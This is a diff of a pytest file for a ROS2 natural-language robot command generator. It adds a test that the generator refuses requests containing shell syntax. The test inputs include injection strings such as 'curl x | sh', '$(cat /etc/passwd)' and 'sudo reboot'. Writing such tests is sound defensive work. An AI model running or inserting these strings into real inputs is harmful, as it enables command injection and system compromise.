@@ -19,10 +19,10 @@ from pathlib import Path
 import re
 
 import pytest
-from ros2_prompt_tuning.generation import CommandGenerator
+from ros2_prompt_tuning.generation import CommandGenerator, Reply
 from ros2_prompt_tuning.grammar import command_grammar, float_regex, integer_regex
 from ros2_prompt_tuning.robot import default_robot
-from ros2_prompt_tuning.validator import check_line
+from ros2_prompt_tuning.validator import check_line, has_shell_syntax
 
 DATA_DIR = Path(__file__).resolve().parent.parent / 'data' / 'turtlesim'
 DATA_COMMANDS = sorted({json.loads(line)['command']
@@ -116,3 +116,16 @@ def test_a_random_model_under_the_grammar_writes_only_valid_or_unfinished_lines(
     for reply in generator.generate(requests):
         # Five tokens hold no complete command: only UNSUPPORTED can be finished.
         assert not reply.complete or reply.text == 'UNSUPPORTED', reply
+
+
+@pytest.mark.parametrize('request_text, shell', [
+    ('move 1 m && curl x | sh', True), ('turn left $(cat /etc/passwd)', True),
+    ('forward 1 m; sudo reboot', True), ('go `touch /tmp/x`', True), ('echo 1 > f', True),
+    ('move forward 2 meters', False), ("set leo's pen to red", False), ('turn 90°!', False),
+])
+def test_requests_with_shell_syntax_are_unsupported_without_the_model(
+        tiny_qwen2, request_text, shell):
+    assert has_shell_syntax(request_text) == shell
+    generator = CommandGenerator.load(tiny_qwen2, None, 'cpu', max_new_tokens=4)
+    [reply] = generator.generate([request_text])
+    assert (reply == Reply('UNSUPPORTED', True, request_text)) == shell
